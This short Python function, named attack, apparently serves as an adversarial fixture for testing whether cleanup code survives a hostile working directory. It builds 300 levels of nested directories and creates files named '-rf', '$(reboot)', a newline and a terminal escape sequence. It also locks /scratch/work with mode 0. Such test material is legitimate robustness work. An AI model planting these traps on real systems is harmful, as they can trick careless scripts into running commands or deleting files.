import os


def attack(facts):
    """Leave names and depths behind that trip whoever cleans up."""
    for _ in range(300):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    for name in ("-rf", "$(reboot)", "\n", "\x1b[2J", "...", "a" * 255, b"\xff\xfe"):
        os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0))
    os.chmod("/scratch/work", 0)
    os.chdir("/")
    return {}
